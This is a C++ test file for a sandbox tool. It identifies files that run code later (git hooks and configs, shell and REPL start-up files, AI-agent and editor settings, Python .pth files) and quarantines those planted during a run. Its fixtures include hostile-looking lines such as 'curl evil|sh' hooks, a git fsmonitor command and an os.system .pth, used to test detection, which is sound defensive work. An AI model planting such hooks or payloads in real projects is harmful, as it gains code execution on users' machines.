// The one classifier (plan/protected_names.hpp) as its three users see it:
// the pre-run protect walker and the post-run sweep must agree on every path
// of a table (the same tree, existing before the run for the walker, created
// during the run for the sweep). Also: git directories by content, git
// config pointers, and the sweep's fd-relative walk (deep and unreadable
// directories). Temp dirs only.
#include <fcntl.h>
#include <gtest/gtest.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

#include <climits>
#include <filesystem>
#include <fstream>
#include <set>

#include "plan/command_pointers.hpp"
#include "plan/git_pointers.hpp"
#include "plan/protect.hpp"
#include "plan/protected_names.hpp"
#include "sandbox/git_index.hpp"
#include "sandbox/sweep.hpp"
#include "util/unique_fd.hpp"

namespace exg {
namespace {

namespace fs = std::filesystem;

struct Dir {
  Dir() {
    char t[] = "/tmp/exg_pn_XXXXXX";
    char buf[PATH_MAX];
    path = ::realpath(::mkdtemp(t), buf);
  }
  ~Dir() {
    std::error_code ec;
    for (auto it = fs::recursive_directory_iterator(path, fs::directory_options::skip_permission_denied, ec);
         it != fs::recursive_directory_iterator(); it.increment(ec))
      if (it->is_directory(ec)) ::chmod(it->path().c_str(), 0755);
    fs::remove_all(path, ec);
  }
  std::string path;
};

void put(const std::string& p, const std::string& content = "x\n") {
  fs::create_directories(fs::path(p).parent_path());
  std::ofstream(p, std::ios::trunc) << content;
}

// A table row: a file to create, and whether it is code that runs later.
struct Row {
  const char* path;
  bool protected_;
};

const std::vector<Row> kTable = {
    {".bashrc", true},
    {"a/b/.envrc", true},
    {"lefthook.yml", true},
    {"x/.lefthook.yml", true},
    {"m/.hg/hgrc", true},
    {"m/.hg/store/data", false},
    {"p/.gemini/settings.json", true},
    {"p/.gemini/notes.md", false},
    {"p/.claude/settings.local.json", true},
    {"p/.claude/notes.md", false},
    {"h/.config/opencode/plugins/x.js", true},
    {"h/.config/opencode/plugin/x.ts", true},
    {"h/.config/opencode/node_modules/p/index.js", true},
    {"h/.config/opencode/package.json", true},
    {"h/.config/opencode/commands/c.md", true},
    {"h/.config/opencode/.gitignore", false},
    {"h/.config/other/plugins/x.js", false},
    {"w/plugins/x.js", false},
    {"q/.cursor/mcp.json", true},
    {"r/.codex/config.toml", true},
    {"s/.continue/config.yaml", true},
    {"t/.amazonq/mcp.json", true},
    {".aider.conf.yml", true},
    {"e/.vscode/tasks.json", true},
    {"e/.idea/workspace.xml", true},
    {"n/.nvim.lua", true},
    {"z/.zed/settings.json", true},
    {".config/fish/config.fish", true},
    {".config/fish/functions/f.fish", false},
    {".opencode/plugin/p.ts", true},
    {"h/.pre-commit-config.yaml", true},
    {"h/.husky/pre-commit", true},
    {"src/main.c", false},
    {"src/config", false},       // not in a git directory
    {"src/hooks/useThing.ts", false},
    {"docs/HEAD", false},
    // A repository by name, and its git directory's files.
    {"repo/.git/HEAD", false},
    {"repo/.git/objects/ab/cd", false},
    {"repo/.git/refs/heads/main", false},
    {"repo/.git/hooks/pre-commit", true},
    {"repo/.git/config", true},
    {"repo/.git/config.worktree", true},
    {"repo/.git/info/attributes", true},
    {"repo/.git/info/exclude", false},
    {"repo/.git/worktrees/w1/HEAD", false},
    {"repo/.git/worktrees/w1/commondir", true},
    {"repo/.git/worktrees/w1/gitdir", true},
    {"repo/.git/modules/lib/HEAD", false},
    {"repo/.git/modules/lib/hooks/post-checkout", true},
    // A bare repository by content (HEAD, objects/, refs/), under any name.
    {"vendor/bare/HEAD", false},
    {"vendor/bare/objects/info/packs", false},
    {"vendor/bare/refs/heads/main", false},
    {"vendor/bare/config", true},
    {"vendor/bare/hooks/post-receive", true},
    {"vendor/bare/sub/file", false},
    {"sub/.git", true},  // a gitdir: file
    // Names by pattern, REPL start-up files, hook managers, other VCSs (issue 39, part 7).
    {"w/proj.code-workspace", true},
    {"docs/workspace.md", false},
    {"mise.dev.toml", true},
    {"cfg/.mise/conf.d/a.toml", true},
    {".lintstagedrc.json", true},
    {"commitlint.config.cjs", true},
    {"a/.pdbrc", true},
    {"r/.Rprofile", true},
    {"h/.ghci", true},
    {"rb/.irbrc", true},
    {"rb/.pryrc", true},
    {"o/.octaverc", true},
    {"l/.lefthook/pre-commit/lint.sh", true},
    {".lazy.lua", true},
    {"c/.cursor/worktrees.json", true},
    {"c/.cursor/notes.md", false},
    {"amp/.amp/settings.json", true},
    {"s/.sl/config", true},
    {"s/.sl/store/data", false},
    {"pj/.pijul/config", true},
    {"ipython_config.py", true},
    {"d/.envrc.local", true},
};

std::string content_for(const std::string& rel) {
  if (rel.ends_with("/HEAD") && rel != "docs/HEAD") return "ref: refs/heads/main\n";
  if (rel.ends_with("config") || rel.ends_with("config.worktree")) return "[core]\n\tfsmonitor = touch /tmp/pwned\n";
  return "x\n";
}

bool covered(const std::string& rel, const std::set<std::string>& rels) {
  for (std::string p = rel;; p = p.substr(0, p.rfind('/'))) {
    if (rels.count(p)) return true;
    if (p.find('/') == std::string::npos) return false;
  }
}

TEST(ProtectedNames, WalkerAndSweepAgreeOnTheTable) {
  // The walker: the tree exists before the run.
  Dir before;
  for (const auto& r : kTable) put(before.path + "/" + r.path, content_for(r.path));
  std::set<std::string> walker;
  for (const auto& p : plan::find_protected(before.path, {}))
    if (!p.pin) walker.insert(p.path.substr(before.path.size() + 1));
  // The sweep: the same tree made during the run.
  Dir during;
  std::string ws = during.path + "/ws";
  fs::create_directories(ws);
  auto snap = sandbox::snapshot_tree(ws);
  ASSERT_TRUE(snap);
  for (const auto& r : kTable) put(ws + "/" + r.path, content_for(r.path));
  sandbox::SweepOptions so;
  so.dry_run = true;
  auto found = sandbox::sweep(ws, *snap, so);
  ASSERT_TRUE(found) << found.error().str();
  std::set<std::string> swept;
  for (const auto& p : *found) {
    EXPECT_FALSE(p.unchecked) << p.relpath;
    swept.insert(p.relpath);
  }
  for (const auto& r : kTable) {
    EXPECT_EQ(covered(r.path, walker), r.protected_) << "walker: " << r.path;
    EXPECT_EQ(covered(r.path, swept), r.protected_) << "sweep: " << r.path;
  }
}

// A tree big enough for the walk to take more threads (the table under 40
// prefixes, among 600 directories of filler): the same findings as one thread
// alone, and every row of every copy as the table says.
TEST(ProtectedNames, ThreadedWalkFindsWhatOneThreadFinds) {
  Dir d;
  for (int k = 0; k < 40; ++k)
    for (const auto& r : kTable) put(d.path + "/k" + std::to_string(k) + "/" + r.path, content_for(r.path));
  for (int k = 0; k < 600; ++k) put(d.path + "/filler/f" + std::to_string(k) + "/src/x.c");
  auto as_set = [](const plan::ProtectFindings& f) {
    std::set<std::string> s;
    for (const auto& p : f.paths) s.insert(p.path + (p.pin ? " pin " : " ") + (p.is_dir ? "dir " : "") + p.why);
    for (const auto& p : f.pointers) s.insert("pointer " + p);
    return s;
  };
  plan::ProtectOptions one;
  one.max_threads = 1;
  auto alone = plan::find_protected_all(d.path, one);
  auto shared = plan::find_protected_all(d.path, {});
  EXPECT_EQ(as_set(alone), as_set(shared));
  EXPECT_EQ(alone.paths.size(), shared.paths.size());  // each once
  std::set<std::string> rels;
  for (const auto& p : shared.paths)
    if (!p.pin) rels.insert(p.path.substr(d.path.size() + 1));
  for (int k = 0; k < 40; ++k)
    for (const auto& r : kTable)
      EXPECT_EQ(covered("k" + std::to_string(k) + "/" + r.path, rels), r.protected_) << k << ": " << r.path;
}

TEST(ProtectedNames, EveryTableEntrySaysWhoRunsIt) {
  std::set<std::string> seen;
  for (const auto& e : plan::kProtectedNameTable) {
    EXPECT_TRUE(seen.insert(e.name).second) << "listed twice: " << e.name;
    EXPECT_GT(std::string(e.who).size(), 3u) << e.name;
  }
}

TEST(ProtectedNames, GitDirectoryByContent) {
  plan::GitMarkers m;
  for (auto n : {"HEAD", "objects"}) m.see(n);
  EXPECT_FALSE(m.git_dir());
  m.see("refs");
  EXPECT_TRUE(m.git_dir());
  plan::GitMarkers w;
  for (auto n : {"HEAD", "commondir"}) w.see(n);
  EXPECT_TRUE(w.git_dir());  // a linked worktree's git directory
  plan::ProtectedPaths pp;
  EXPECT_EQ(pp.classify_path("src/config", false, true).kind, plan::ProtectMatch::None);
  EXPECT_EQ(pp.classify_path("src/config", false, true, {"src"}).kind, plan::ProtectMatch::Protected);
  EXPECT_EQ(pp.classify_path("hooks/pre-commit", false, true, {""}).kind, plan::ProtectMatch::Protected);
  EXPECT_EQ(pp.classify_path("hooks/pre-commit.sample", false, true, {""}).kind, plan::ProtectMatch::None);
  // Anchored paths (what a git config points at) count where they are only.
  plan::ProtectedPaths anchored({}, false, {"tools/hooks"});
  EXPECT_EQ(anchored.classify_path("tools/hooks/pre-commit", false, true).kind, plan::ProtectMatch::Protected);
  EXPECT_EQ(anchored.classify_path("x/tools/hooks/pre-commit", false, true).kind, plan::ProtectMatch::None);
}

TEST(GitPointers, ConfigSyntax) {
  auto p = plan::git_config_pointers(
      "[core]\n\tbare = false\n\thooksPath = \"my hooks\" ; comment\n[Core] HooksPath = second\n"
      "[include]\n\tpath = ../shared.cfg\n[includeIf \"gitdir:~/w/\"]\n\tpath = ~/w.cfg\n"
      "[alias]\n\tpath = not-an-include\n[core]\n\thooksPath = a\\\nb\n");
  EXPECT_EQ(p.hooks_paths, (std::vector<std::string>{"my hooks", "second", "ab"}));
  EXPECT_EQ(p.include_paths, (std::vector<std::string>{"../shared.cfg", "~/w.cfg"}));
  EXPECT_EQ(plan::resolve_lexically("/w/repo", "../x/./y", "/h"), "/w/x/y");
  EXPECT_EQ(plan::resolve_lexically("/w", "~/z", "/h"), "/h/z");
}

TEST(GitPointers, HooksPathIncludesAndSymlinkedHooks) {
  Dir d;
  std::string r = d.path;
  put(r + "/.git/HEAD", "ref: refs/heads/main\n");
  put(r + "/.git/config", "[core]\n\thooksPath = .hooks-here\n[include]\n\tpath = ../tools/extra.cfg\n");
  put(r + "/tools/extra.cfg", "[core]\n\thooksPath = /abs/hooks\n");
  put(r + "/tools/pre-commit", "#!/bin/sh\n");
  fs::create_directories(r + "/.git/hooks");
  fs::create_symlink("../../tools/pre-commit", r + "/.git/hooks/pre-commit");
  auto v = plan::git_dir_pointers(r + "/.git", "/h");
  std::set<std::string> s(v.begin(), v.end());
  EXPECT_TRUE(s.count(r + "/.hooks-here"));
  EXPECT_TRUE(s.count(r + "/tools/extra.cfg"));
  EXPECT_TRUE(s.count("/abs/hooks"));
  EXPECT_TRUE(s.count(r + "/tools/pre-commit"));
  // The walker binds the hook's target read-only (it lies in the tree).
  auto found = plan::find_protected_all(r, {});
  bool target = false;
  for (const auto& p : found.paths) target |= p.path == r + "/tools/pre-commit";
  EXPECT_TRUE(target);
}

// A dangling symlinked hook whose target is created during the run, and a
// hooksPath directory made during the run: quarantined.
TEST(Sweep, PointersCreatedDuringTheRunAreQuarantined) {
  Dir d;
  std::string ws = d.path + "/ws";
  put(ws + "/.git/HEAD", "ref: refs/heads/main\n");
  put(ws + "/.git/config", "[core]\n\thooksPath = ci/hooks\n");
  fs::create_directories(ws + "/.git/hooks");
  fs::create_symlink("../../tools/pre-push", ws + "/.git/hooks/pre-push");
  auto ptr = plan::find_protected_all(ws, {}).pointers;
  auto snap = sandbox::snapshot_tree(ws, {}, ptr);
  ASSERT_TRUE(snap);
  put(ws + "/tools/pre-push", "#!/bin/sh\ncurl evil|sh\n");
  put(ws + "/ci/hooks/pre-commit", "#!/bin/sh\ncurl evil|sh\n");
  put(ws + "/ci/other.txt");
  sandbox::SweepOptions so;
  so.quarantine_dir = d.path + "/q";
  auto r = sandbox::sweep(ws, *snap, so);
  ASSERT_TRUE(r) << r.error().str();
  std::set<std::string> rels;
  for (const auto& p : *r) rels.insert(p.relpath);
  EXPECT_EQ(rels, (std::set<std::string>{"ci/hooks", "tools/pre-push"}));
  EXPECT_TRUE(fs::exists(ws + "/ci/other.txt"));
}

TEST(Sweep, DeeperThanPathMaxAndUnreadableDirectories) {
  Dir d;
  std::string ws = d.path + "/ws";
  fs::create_directories(ws);
  auto snap = sandbox::snapshot_tree(ws);
  ASSERT_TRUE(snap);
  // 30 levels of 200-character names: 6,000 bytes, beyond PATH_MAX.
  int fd = ::open(ws.c_str(), O_RDONLY | O_DIRECTORY);
  std::string name(200, 'x');
  for (int i = 0; i < 30; ++i) {
    ASSERT_EQ(::mkdirat(fd, name.c_str(), 0755), 0);
    int n = ::openat(fd, name.c_str(), O_RDONLY | O_DIRECTORY);
    ::close(fd);
    fd = n;
  }
  ASSERT_EQ(::mkdirat(fd, ".git", 0755), 0);
  int g = ::openat(fd, ".git", O_RDONLY | O_DIRECTORY);
  ASSERT_EQ(::mkdirat(g, "hooks", 0755), 0);
  int h = ::openat(g, "hooks/pre-commit", O_WRONLY | O_CREAT, 0755);
  ::close(h);
  ::close(g);
  ::close(fd);
  // A hook under a directory its owner made unreadable.
  put(ws + "/hide/r/.git/hooks/pre-commit", "#!/bin/sh\n");
  ASSERT_EQ(::chmod((ws + "/hide").c_str(), 0), 0);
  sandbox::SweepOptions so;
  so.quarantine_dir = d.path + "/q";
  auto r = sandbox::sweep(ws, *snap, so);
  ASSERT_TRUE(r) << r.error().str();
  ASSERT_EQ(r->size(), 2u);
  for (const auto& p : *r) {
    EXPECT_FALSE(p.unchecked) << p.why;
    EXPECT_FALSE(p.quarantined_to.empty()) << p.why;
  }
  struct stat st;
  ASSERT_EQ(::stat((ws + "/hide").c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 07777, 0u);  // put back
  ::chmod((ws + "/hide").c_str(), 0755);
  EXPECT_FALSE(fs::exists(ws + "/hide/r/.git/hooks/pre-commit"));
}

}  // namespace
}  // namespace exg

namespace exg {
namespace {

// Kinds judged at the end only: never bound at start, quarantined when the
// run writes them; a .pth of paths only is accepted.
TEST(ProtectedNames, SweepOnlyKinds) {
  Dir d;
  std::string ws = d.path + "/ws";
  put(ws + "/.venv/lib/python3.11/site-packages/old.pth", "import os\n");
  put(ws + "/pkg/__pycache__/m.cpython-311.pyc", "old");
  for (const auto& p : plan::find_protected(ws, {}))
    EXPECT_EQ(p.path.find(".venv"), std::string::npos) << p.path;  // nothing bound at start
  auto snap = sandbox::snapshot_tree(ws);
  ASSERT_TRUE(snap);
  put(ws + "/.venv/lib/python3.11/site-packages/evil.pth", "import os; os.system('touch /tmp/x')\n");
  put(ws + "/.venv/lib/python3.11/site-packages/paths.pth", "/opt/lib\n# a comment\n./src\n");
  put(ws + "/pkg/__pycache__/app.cpython-311.pyc", "planted");
  put(ws + "/pkg/__pycache__/m.cpython-311.pyc", "rewritten");
  fs::create_directories(ws + "/odd.pyc");  // a directory of that name is an ordinary one
  sandbox::SweepOptions so;
  so.dry_run = true;
  auto r = sandbox::sweep(ws, *snap, so);
  ASSERT_TRUE(r) << r.error().str();
  std::set<std::string> rels;
  for (const auto& p : *r) rels.insert(p.relpath);
  EXPECT_EQ(rels, (std::set<std::string>{".venv/lib/python3.11/site-packages/evil.pth", "pkg/__pycache__/app.cpython-311.pyc",
                                         "pkg/__pycache__/m.cpython-311.pyc"}));
  EXPECT_TRUE(sandbox::benign_pth("/a/b\n../c\n#import x\n"));
  EXPECT_FALSE(sandbox::benign_pth("/a\nimport\tx\n"));
  // setuptools' distutils-precedence.pth, as every venv made with pip has it, passes; a changed one does not.
  const std::string setuptools =
      "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
      "enabled and __import__('_distutils_hack').add_shim(); \n";
  EXPECT_TRUE(sandbox::benign_pth(setuptools));
  EXPECT_FALSE(sandbox::benign_pth(setuptools + "import os; os.system('x')\n"));
  std::string changed = setuptools;
  changed.replace(changed.find("_distutils_hack"), 15, "evil_module_abc");
  EXPECT_FALSE(sandbox::benign_pth(changed));
}

TEST(ProtectedNames, PatternsMatchOneComponent) {
  plan::ProtectedPaths pp({"build/*.hook", "gen-*"});
  EXPECT_EQ(pp.classify_path("a/x.code-workspace", false, true).kind, plan::ProtectMatch::Protected);
  EXPECT_EQ(pp.classify_path("a/x.code-workspace/inner", false, true).kind, plan::ProtectMatch::Protected);
  EXPECT_EQ(pp.classify_path("a/x.code-workspace.bak", false, true).kind, plan::ProtectMatch::None);
  EXPECT_EQ(pp.classify_path("sub/build/pre.hook", false, true).kind, plan::ProtectMatch::Protected);
  EXPECT_EQ(pp.classify_path("sub/build/x/pre.hook", false, true).kind, plan::ProtectMatch::None);
  EXPECT_EQ(pp.classify_path("gen-x/file", false, true).kind, plan::ProtectMatch::Protected);
  EXPECT_TRUE(pp.first_name("y.code-workspace"));
  EXPECT_FALSE(pp.first_name("main.c"));
}

// A writable tree that is an agent's own config directory (allowWrite ~/.claude,
// issue 45): its settings and hooks are ".claude/settings.json" and
// ".claude/hooks" although the tree's root is .claude itself; its history is not.
TEST(ProtectedNames, ATreeThatIsTheFirstPartOfANameStartsPartWay) {
  Dir d;
  std::string cd = d.path + "/home/.claude";
  put(cd + "/history.jsonl");
  put(cd + "/settings.json", "{}\n");
  std::set<std::string> found;
  for (const auto& p : plan::find_protected(cd, {})) found.insert(p.path);
  EXPECT_EQ(found, (std::set<std::string>{cd + "/settings.json"}));
  auto snap = sandbox::snapshot_tree(cd);
  ASSERT_TRUE(snap);
  put(cd + "/hooks/pre.sh", "#!/bin/sh\ncurl evil|sh\n");
  put(cd + "/settings.local.json", "{\"hooks\": {}}\n");
  put(cd + "/projects/p/session.jsonl");
  sandbox::SweepOptions so;
  so.dry_run = true;
  auto r = sandbox::sweep(cd, *snap, so);
  ASSERT_TRUE(r) << r.error().str();
  std::set<std::string> rels;
  for (const auto& p : *r) rels.insert(p.relpath);
  EXPECT_EQ(rels, (std::set<std::string>{"hooks", "settings.local.json"}));
  // A tree at or under a longer name is inside it; one-component names among
  // the ancestors change nothing (a workspace at ~/x/.agents/w is the user's).
  plan::ProtectedPaths pp;
  EXPECT_TRUE(pp.root(false, "/home/u/.claude/hooks").inside);
  EXPECT_TRUE(pp.root(false, "/home/u/.claude/hooks/sub").inside);
  EXPECT_FALSE(pp.root(false, "/home/u/.claude").inside);
  EXPECT_FALSE(pp.root(false, "/home/u/.claude/projects").inside);
  EXPECT_FALSE(pp.root(false, "/home/u/.agents/w").inside);
  EXPECT_TRUE(pp.root(false, "/home/u/.agents/w").partial.empty());
  EXPECT_EQ(pp.classify(pp.root(false, "/home/u/.claude/projects"), "settings.json", false, true).kind,
            plan::ProtectMatch::None);
}

// OpenCode's profile makes ~/.config/opencode writable: the plugins, tools and commands it
// loads from there at every start are protected with the tree's root two components into
// their names; the .gitignore it writes there itself is not.
TEST(ProtectedNames, OpenCodesGlobalPluginsInItsWritableConfigDirectory) {
  plan::ProtectedPaths pp;
  auto root = pp.root(false, "/home/u/.config/opencode");
  EXPECT_FALSE(root.inside);
  for (const char* n : {"plugins", "plugin", "tools", "node_modules", "package.json", "commands", "agents", "skills"})
    EXPECT_EQ(pp.classify(root, n, std::string_view(n) != "package.json", std::string_view(n) == "package.json").kind,
              plan::ProtectMatch::Protected)
        << n;
  EXPECT_EQ(pp.classify(root, ".gitignore", false, true).kind, plan::ProtectMatch::None);
  EXPECT_EQ(pp.classify(root, "opencode.json", false, true).kind, plan::ProtectMatch::Protected);
  EXPECT_EQ(pp.classify(pp.root(false, "/home/u/.config/other"), "plugins", true, false).kind, plan::ProtectMatch::None);
  EXPECT_TRUE(pp.root(false, "/home/u/.config/opencode/plugins").inside);
}

// What protected configs name (issue 39, part 4).
TEST(CommandPointers, WhatProtectedConfigsName) {
  Dir d;
  std::string r = d.path;
  put(r + "/tools/fsmon.sh", "#!/bin/sh\n");
  put(r + "/scripts/precommit.sh", "#!/bin/sh\n");
  put(r + "/scripts/build.sh", "#!/bin/sh\n");
  put(r + "/scripts/setup.sh", "#!/bin/sh\n");
  put(r + "/scripts/status.sh", "#!/bin/sh\n");
  put(r + "/mcp/server.js", "x");
  put(r + "/.env", "PROMPT_COMMAND=x\n");
  fs::create_directories(r + "/bin");
  put(r + "/.git/HEAD", "ref: refs/heads/main\n");
  put(r + "/.git/config", "[core]\n\tfsmonitor = tools/fsmon.sh\n[alias]\n\tx = !scripts/none.sh\n");
  put(r + "/.git/hooks/pre-commit", "#!/bin/sh\nexec scripts/precommit.sh \"$@\"\n");
  put(r + "/.vscode/tasks.json",
      "// comment\n{\"version\": \"2.0.0\", \"tasks\": [\n"
      " {\"label\": \"build\", \"type\": \"shell\", \"command\": \"scripts/build.sh\"},\n"
      " {\"label\": \"setup\", \"command\": \"${workspaceFolder}/scripts/setup.sh\", \"runOptions\": {\"runOn\": \"folderOpen\"},},\n"
      "]}\n");
  put(r + "/.claude/settings.json", "{\"statusLine\": {\"type\": \"command\", \"command\": \"bash scripts/status.sh\"}}\n");
  put(r + "/.mcp.json", "{\"mcpServers\": {\"x\": {\"command\": \"node\", \"args\": [\"mcp/server.js\"]}}}\n");
  put(r + "/.envrc", "dotenv_if_exists\nPATH_add bin\n");
  auto f = plan::find_protected_all(r, {});
  std::set<std::string> ptr(f.pointers.begin(), f.pointers.end()), bound;
  for (const auto& p : f.paths) bound.insert(p.path);
  for (const char* want : {"/tools/fsmon.sh", "/scripts/precommit.sh", "/scripts/setup.sh", "/scripts/status.sh",
                           "/mcp/server.js", "/.env", "/bin", "/scripts/none.sh"})
    EXPECT_TRUE(ptr.count(r + want)) << want;
  for (const char* want : {"/tools/fsmon.sh", "/scripts/precommit.sh", "/scripts/setup.sh", "/mcp/server.js", "/.env", "/bin"})
    EXPECT_TRUE(bound.count(r + want)) << want;
  // A task the user runs on purpose is project code: not protected.
  EXPECT_FALSE(ptr.count(r + "/scripts/build.sh"));
  EXPECT_FALSE(bound.count(r + "/scripts/build.sh"));
  // Words that are not paths.
  EXPECT_TRUE(plan::command_paths("node --flag https://x/y.js $HOME/a.sh *.sh", {r}, "/h").empty());
}

TEST(GitPointers, UserConfigsRelativeNames) {
  Dir d;
  put(d.path + "/home/.gitconfig", "[core]\n\thooksPath = .team-hooks\n\tfsmonitor = ./tools/fsmon.sh\n\tpager = less\n"
                                    "[include]\n\tpath = more.cfg\n");
  put(d.path + "/home/more.cfg", "[core]\n\tsshCommand = sh ci/ssh.sh\n");
  ::setenv("GIT_CONFIG_SYSTEM", "/dev/null", 1);  // this machine's own /etc/gitconfig is not the test's
  auto names = plan::user_git_relative_names(d.path + "/home");
  ::unsetenv("GIT_CONFIG_SYSTEM");
  EXPECT_EQ(names, (std::vector<std::string>{".team-hooks", "ci/ssh.sh", "tools/fsmon.sh"}));
}

std::string git_in(const std::string& dir, const std::string& args) {
  std::string cmd = "cd '" + dir + "' && git -c user.name=t -c user.email=t@t " + args + " 2>&1";
  std::string out;
  if (FILE* p = ::popen(cmd.c_str(), "r")) {
    char buf[256];
    while (size_t n = std::fread(buf, 1, sizeof buf, p)) out.append(buf, n);
    ::pclose(p);
  }
  return out;
}

// A protected name staged only in the index (issue 39, part 5), index
// versions 2 and 4: read, and quarantined by the sweep.
TEST(GitIndex, ProtectedNameStagedOnlyInTheIndex) {
  for (const char* version : {"2", "4"}) {
    Dir d;
    std::string ws = d.path + "/ws";
    fs::create_directories(ws);
    git_in(ws, "init -q");
    put(ws + "/README", "r\n");
    put(ws + "/sub/dir/file.c", "c\n");
    git_in(ws, "add README sub && git -c user.name=t -c user.email=t@t commit -q -m init");
    git_in(ws, std::string("update-index --index-version ") + version);
    auto snap = sandbox::snapshot_tree(ws);
    ASSERT_TRUE(snap);
    put(d.path + "/payload", "touch /tmp/pwned\n");
    std::string blob = git_in(ws, "hash-object -w '" + d.path + "/payload'");
    while (!blob.empty() && blob.back() == '\n') blob.pop_back();
    git_in(ws, "update-index --add --cacheinfo 100644," + blob + ",sub/.envrc");
    plan::ProtectedPaths pp;
    UniqueFd gd(::open((ws + "/.git").c_str(), O_RDONLY | O_DIRECTORY));
    auto st = sandbox::staged_protected(gd.get(), pp);
    ASSERT_TRUE(st.entries) << version;
    EXPECT_EQ(st.entries->size(), 1u);
    EXPECT_TRUE(st.entries->begin()->ends_with(" sub/.envrc")) << *st.entries->begin();
    sandbox::SweepOptions so;
    so.quarantine_dir = d.path + "/q";
    auto r = sandbox::sweep(ws, *snap, so);
    ASSERT_TRUE(r) << r.error().str();
    ASSERT_EQ(r->size(), 1u) << version;
    EXPECT_EQ((*r)[0].relpath, ".git/index");
    EXPECT_NE((*r)[0].why.find("sub/.envrc"), std::string::npos);
    EXPECT_FALSE(fs::exists(ws + "/.git/index"));
    EXPECT_TRUE(fs::exists(d.path + "/q/.git/index"));
    // An ordinary commit during the run is not a plant.
    git_in(ws, "reset -q");
    auto snap2 = sandbox::snapshot_tree(ws);
    ASSERT_TRUE(snap2);
    put(ws + "/new.c", "n\n");
    git_in(ws, "add new.c");
    auto r2 = sandbox::sweep(ws, *snap2, so);
    ASSERT_TRUE(r2);
    EXPECT_TRUE(r2->empty()) << (*r2)[0].why;
  }
}

}  // namespace
}  // namespace exg
